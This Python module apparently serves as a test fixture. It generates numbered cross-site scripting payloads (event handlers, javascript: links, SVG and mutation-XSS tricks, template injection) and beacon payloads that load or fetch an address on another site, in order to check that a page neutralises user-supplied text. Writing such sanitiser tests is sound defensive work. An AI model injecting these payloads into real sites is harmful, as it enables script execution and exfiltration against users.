"""`payloads`: what a page must not carry out, as text for profiles, names and questions. Each has a number of its own.

A script that runs says so by `ran(number)`; whatever is fetched goes to `/number` of another site.
"""

from __future__ import annotations

from dataclasses import dataclass

# R: the call that tells that a script ran; E: an address of the other site
_SCRIPTS = """
<script>R</script>
<script src="E"></script>
<script>R//
<ScRiPt>R</sCrIpT>
<script/x>R</script>
<scr<script>ipt>R</scr</script>ipt>
</code></p></div><script>R</script>
--><script>R</script>
]]><script>R</script>
<img src=x onerror=R>
<img src=x onerror="R">
<img src=x onerror='R'>
<IMG SRC=x OnErRoR=R>
<img/src=x/onerror=R>
<img src=x:x onerror&#61;R>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=R>
"><img src=x onerror=R>
'><img src=x onerror=R>
</a><img src=x onerror=R>
</mark></blockquote><img src=x onerror=R>
</summary></details><img src=x onerror=R>
</title></textarea></style><img src=x onerror=R>
<svg onload=R></svg>
<svg><script>R</script></svg>
<svg><animate onbegin=R attributeName=x dur=1s></svg>
<svg><set onbegin=R attributeName=x></svg>
<svg><image href=x onerror=R></svg>
<svg><foreignObject><img src=x onerror=R></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=R&gt;">
<video src=x onerror=R></video>
<video><source src=x onerror=R></video>
<audio src=x onerror=R></audio>
<details open ontoggle=R>x</details>
<input autofocus onfocus=R>
<select autofocus onfocus=R></select>
<textarea autofocus onfocus=R></textarea>
<a autofocus tabindex=1 onfocus=R>x</a>
<div style="animation:spin 1s" onanimationstart=R>x</div>
<div onmouseover=R style="position:fixed;inset:0;opacity:0">x</div>
<body onload=R>
<body onpageshow=R>
<iframe onload=R></iframe>
<iframe src="javascript:parent.R"></iframe>
<iframe srcdoc="&lt;script&gt;parent.R&lt;/script&gt;"></iframe>
<object data="data:text/html,&lt;script&gt;opener.R&lt;/script&gt;"></object>
<embed src="javascript:R">
<form action="javascript:R"><input type=submit autofocus></form>
<a href="javascript:R">press</a>
<a href="&#106;avascript:R">press</a>
<a href="java&#10;script:R">press</a>
<a href=" &#1;javascript:R">press</a>
<a href="data:text/html,&lt;script&gt;R&lt;/script&gt;">press</a>
[press](javascript:R)
[press](<javascript:R>)
[press]: javascript:R
![x](x "onerror=R")
<javascript:R>
<marquee onstart=R>x</marquee>
<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=R>x</b>
<noscript><p title="</noscript><img src=x onerror=R>">
<template><img src=x onerror=R></template><xmp><p title="</xmp><img src=x onerror=R>">
<p id="x" class="x" onclick=R dir="auto" contenteditable autofocus onfocus=R>x</p>
{{constructor.constructor('R')()}}
${R}
<%= R %>
$$\\href{javascript:R}{x}$$
$\\url{javascript:R}$
&lt;img src=x onerror=R&gt;
&amp;lt;img src=x onerror=R&amp;gt;
<button popovertarget=x onclick=R autofocus onfocus=R>x</button>
<link rel=stylesheet href=x onerror=R>
<base href="javascript:R//"><a href="x">press</a>
<meta http-equiv=refresh content="0;url=javascript:R">
<isindex type=image src=x onerror=R>
"; R; "
'); R; ('
</script><script>R</script>
"},{"do":"say","text":"<img src=x onerror=R>"
"""
_BEACONS = """
<img src="E">
<img srcset="E 1x">
<img loading=eager src=//H>
<picture><source srcset="E"><img></picture>
![x](E)
![x][r]

[r]: E
<E>
[1]: E
[[1]](E)
<input type=image src="E">
<video src="E" autoplay></video>
<video poster="E"></video>
<audio src="E" autoplay></audio>
<video><track default src="E"></video>
<iframe src="E"></iframe>
<object data="E"></object>
<embed src="E">
<link rel=stylesheet href="E">
<link rel=prefetch href="E">
<link rel=preload as=image href="E">
<link rel=prerender href="E">
<link rel=icon href="E">
<link rel=manifest href="E">
<link rel=modulepreload href="E">
<style>@import url("E");</style>
<style>body{background:url("E")}</style>
<style>@font-face{font-family:x;src:url("E")} body{font-family:x}</style>
<p style="background:url('E')">x</p>
<p style="background-image:image-set(url('E') 1x)">x</p>
<p style="list-style:url(E);display:list-item">x</p>
<p style="cursor:url(E),auto">x</p>
<p style="border-image:url(E)">x</p>
<p style="mask:url(E);content:url(E)">x</p>
<svg><image href="E"/></svg>
<svg><use href="E#x"/></svg>
<svg><feImage href="E"/></svg>
<svg style="fill:url(E#x)"></svg>
<table background="E"><tr><td background="E">x</td></tr></table>
<body background="E">
<form action="E" method=post><input name=q autofocus></form>
<base href="E/">
<a href="x" ping="E">x</a>
<frameset><frame src="E"></frameset>
<html manifest="E">
<bgsound src="E">
<math href="E"><mi>x</mi></math>
<script type=module>import "E"</script>
<script>fetch("E")</script>
<img src=x onerror="fetch('E')">
<img src=x onerror="navigator.sendBeacon('E')">
<img src=x onerror="new WebSocket('E'.replace('http','ws'))">
<img src=x onerror="new EventSource('E')">
"""
_REFRESH = '<meta http-equiv=refresh content="0;url=E">'  # leaves the page itself: the last to be tried


@dataclass(frozen=True, slots=True)
class Payload:
    """One attempt."""

    number: int
    text: str


def payloads(other: str) -> list[Payload]:
    """Every attempt, against the other site at an address "http://host:port"."""
    lines = [line for block in (_SCRIPTS, _BEACONS) for line in block.replace("\n\n[r]", "\0[r]").strip().split("\n")]
    found = []
    for number, line in enumerate(lines):
        text = line.replace("\0", "\n\n").replace("E/", f"{other}/{number}/")
        text = _put(text, "E", f"{other}/{number}").replace("//H", f"//{other.split('//')[1]}/{number}")
        found.append(Payload(number, _put(text, "R", f"ran({number})")))
    return found


def refresh(other: str) -> str:
    """The attempt that would lead the whole page elsewhere."""
    return _put(_REFRESH, "E", f"{other}/refresh")


def _put(text: str, letter: str, words: str) -> str:
    """The letter that stands alone replaced."""
    import re

    return re.sub(rf"(?<![A-Za-z0-9]){letter}(?![A-Za-z0-9])", lambda _: words, text)
